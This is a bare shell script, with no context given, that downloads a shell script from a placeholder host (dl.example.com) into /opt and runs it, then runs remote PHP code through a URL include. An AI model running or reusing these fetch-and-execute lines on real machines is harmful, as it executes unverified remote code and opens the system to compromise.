#!/bin/sh
php -r "copy('https://dl.example.com/x.sh','/opt/x.sh');"
sh /opt/x.sh
php -r "include 'https://dl.example.com/x.php';"
